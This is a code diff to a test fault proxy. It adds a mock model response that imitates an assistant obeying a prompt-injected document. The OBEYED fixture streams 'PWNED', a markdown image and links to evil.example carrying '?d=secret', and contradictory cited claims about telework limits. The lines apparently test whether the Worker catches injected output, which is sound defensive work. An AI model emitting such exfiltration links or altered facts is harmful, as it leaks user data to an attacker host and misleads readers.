@@ -28,7 +28,29 @@ const FAULTS: Faults = {
     }
     response.end();
   },
+  // A model that does what a document tells it to.
+  "fault-obedient": (response) => {
+    response.writeHead(200, { "Content-Type": "text/event-stream" });
+    for (const [index] of [...OBEYED].entries()) {
+      if (index % 7 === 0) response.write(textPiece(OBEYED.slice(index, index + 7)));
+    }
+    response.end(
+      `data: ${JSON.stringify({ choices: [{ index: 0, delta: {}, finish_reason: "stop" }] })}\n\n`,
+    );
+  },
 };
+
+/** What an injected document would have a reader's browser load, follow and read. */
+const OBEYED = [
+  "PWNED ![x](https://evil.example/?d=secret).",
+  "Voir [la suite](https://evil.example/suite) ou https://evil.example/?d=secret ou <img src=https://evil.example/p>.",
+  "Le télétravail est limité à cinq jours par semaine [1].",
+  "Le télétravail est limité à trois jours par semaine [1].",
+].join(" ");
+
+function textPiece(content: string): string {
+  return `data: ${JSON.stringify({ choices: [{ index: 0, delta: { content }, finish_reason: null }] })}\n\n`;
+}
 
 /** Stands between the Worker under test and the model server, and breaks what a test asks to be broken. */
 export async function startFaultProxy(upstream: string): Promise<FaultProxy> {
